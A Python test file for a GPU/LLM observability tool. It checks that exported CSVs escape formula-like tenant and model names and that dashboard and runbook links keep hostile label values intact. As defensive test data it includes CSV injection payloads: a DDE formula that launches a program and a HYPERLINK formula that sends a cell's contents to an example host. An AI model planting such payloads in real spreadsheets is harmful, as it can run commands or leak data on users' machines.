"""What the tool writes for people to open cannot attack them: tenant and model names are
whatever producers send, so a CSV opened in a spreadsheet never runs one as a formula, and a
link in a page or a report always lands on the slice it names."""

from __future__ import annotations

import csv
import io
from urllib.parse import parse_qs, unquote, urlsplit

import msgspec
import polars as pl
import pytest

from tailwatch.alerts.alertmanager import AlertLinks, detection_to_alertmanager, to_alertmanager
from tailwatch.dashboards.uids import UID_LATENCY, UID_SLO
from tailwatch.detectors.core import Detection
from tailwatch.ingest.schema import GpuV1, RequestV1
from tailwatch.reports.readiness import dashboards_for
from tailwatch.slo.engine import AlertChange
from tailwatch.slo.alert_windows import default_catalog
from tailwatch.cli import main
from tests.test_pipeline import run_worker

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP: a cell starting so is run by a spreadsheet
# OWASP's examples and their kin: each one a formula to a spreadsheet if written as it is. (A
# tab or carriage return never reaches a stored name: the contract refuses control characters.)
HOSTILE_TENANTS = ("=cmd|' /C calc'!A0", "+SUM(1+1)", "-2+3", "@SUM(A1:A9)", "plain, \"quoted\" =no")
HOSTILE_MODEL = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"
START_MS = 1_793_577_600_000  # 2026-11-02T00:00:00Z


def _cells_look_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_STARTS) or _is_number(value), (value, row)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.fixture(scope="module")
def hostile_store(new_memory, tmp_path_factory):
    """A real store, cut by the worker from requests whose tenants and model are formulas."""
    kafka = producer = new_memory(partitions=1)
    n = 0
    for minute in range(3):
        for tenant in HOSTILE_TENANTS:
            for _ in range(5):
                n += 1
                producer.produce(kafka.topic("requests"), msgspec.json.encode(RequestV1(
                    schema="request.v1", event_id=f"e{n}", ts=START_MS + minute * 60_000 + n, tenant=tenant,
                    model=HOSTILE_MODEL, workload="llm", status="ok", zone="z1", pool="llm-a", e2e_ms=800.0,
                    task_success=True, output_tokens=100, gpu_seconds=0.5, gpu_sku="H100")))
        producer.produce(kafka.topic("gpu"), msgspec.json.encode(GpuV1(
            schema="gpu.v1", ts=START_MS + minute * 60_000 + 30_000, node="n1", gpu_index=0, zone="z1",
            pool="llm-a", gpu_sku="H100", util_pct=50.0)))
    assert producer.flush(30) == 0
    path = tmp_path_factory.mktemp("hostile") / "tw.duckdb"
    run_worker(kafka, path, until_idle_s=2.0, publish_sli=False)
    return path


def test_cost_csv_marks_formula_names_as_text_and_keeps_numbers_numbers(hostile_store, tmp_path):
    out = tmp_path / "report"
    assert main(["report", "cost", "--store", str(hostile_store), "--out", str(out)]) == 0
    text = (out / "cost.csv").read_text(encoding="utf-8")
    header, *rows = list(csv.reader(io.StringIO(text)))
    assert rows, text
    _cells_look_safe(rows)
    column = {name: i for i, name in enumerate(header)}
    # Each name comes back whole, behind the apostrophe a spreadsheet hides.
    tenants = {row[column["tenant"]] for row in rows}
    assert tenants == {("'" + t if t.startswith(FORMULA_STARTS) else t) for t in HOSTILE_TENANTS}, tenants
    assert {row[column["model"]] for row in rows} == {"'" + HOSTILE_MODEL}
    # Numbers are not text: they read back as numbers, and add up to what the store holds.
    frame = pl.read_csv(out / "cost.csv")
    for name in ("requests", "successful_turns", "output_tokens", "fully_loaded_cost_usd"):
        assert frame.schema[name].is_numeric(), (name, frame.schema[name])
    assert frame["requests"].sum() == 3 * 5 * len(HOSTILE_TENANTS)
    assert frame["output_tokens"].sum() == 100 * 3 * 5 * len(HOSTILE_TENANTS)


def test_query_results_as_csv_mark_formulas_and_leave_negative_numbers_alone(hostile_store, capsys):
    assert main(["sql", "--store", str(hostile_store), "--format", "csv",
                 "select tenant, -1.5 as delta, '-' || tenant as dashed, chr(9) || '=1+1' as tabbed, "
                 "chr(13) || '=1+1' as returned from sli_minute order by tenant limit 3"]) == 0
    header, *rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert header == ["tenant", "delta", "dashed", "tabbed", "returned"] and len(rows) == 3
    _cells_look_safe(rows)
    assert all(row[1] == "-1.5" and row[2].startswith("'-") for row in rows), rows
    assert all(row[3] == "'\t=1+1" and row[4] == "'\r=1+1" for row in rows), rows


# ---- links ------------------------------------------------------------------------------------

# A label value holding every character that cuts a query short or starts another part.
HOSTILE_LABELS = {"tenant": "a&var-tenant=b #frag", "model": "m=1?x/y%20z+w", "zone": "zürich 東京 ☃",
                  "model_version": "v1;v2,'\"<>"}


def _variables(link: str, base: str) -> dict[str, str]:
    parts = urlsplit(link)
    assert f"{parts.scheme}://{parts.netloc}{parts.path}" == base and parts.fragment == "", link
    query = parse_qs(parts.query, keep_blank_values=True, strict_parsing=True)
    assert all(len(values) == 1 for values in query.values()), query  # each variable once: no value split off another
    return {name.removeprefix("var-"): values[0] for name, values in query.items()}


def test_slo_page_links_carry_the_exact_label_values():
    (window, *_rest) = default_catalog()
    change = AlertChange("firing", "fp", "SLOBurnPage", "page", "chat & voice #1", dict(HOSTILE_LABELS), 100, 100,
                         window, 20.0, 50.0, 0.4)
    links = AlertLinks(runbook_base_url="https://runbooks.example/team a/", grafana_url="https://grafana.example/g/")
    alert = to_alertmanager(change, "runbooks/slo-burn.md", links)
    dashboard = alert["annotations"]["dashboard_url"]
    assert alert["generatorURL"] == dashboard
    assert _variables(dashboard, f"https://grafana.example/g/d/{UID_SLO}") == {"slo": "chat & voice #1", **HOSTILE_LABELS}
    assert alert["annotations"]["runbook_url"] == "https://runbooks.example/team a/runbooks/slo-burn.md"


def test_detector_page_and_report_links_carry_the_exact_label_values():
    detection = Detection("queue_age", {"pool": "p&1", **HOSTILE_LABELS}, 100, None, {"oldest_queue_age_ms_mean": 1500.0})
    alert = detection_to_alertmanager(detection, detection.evidence, AlertLinks())
    # The latency dashboard filters on tenant, model, zone and workload: those are preset, exactly.
    assert _variables(alert["annotations"]["dashboard_url"], f"http://grafana.local/d/{UID_LATENCY}") == {
        k: HOSTILE_LABELS[k] for k in ("tenant", "model", "zone")}
    for _title, link in dashboards_for(HOSTILE_LABELS["model"], AlertLinks()):
        base = link.split("?")[0]
        assert _variables(link, base) == {"model": HOSTILE_LABELS["model"]}


def test_a_runbook_path_is_encoded_step_by_step_under_its_base():
    link = AlertLinks(runbook_base_url="file:///srv/run books/").runbook("runbooks/detector-#1 ?.md")
    parts = urlsplit(link)
    assert parts.query == "" and parts.fragment == "", link
    assert unquote(parts.path) == "/srv/run books/runbooks/detector-#1 ?.md"
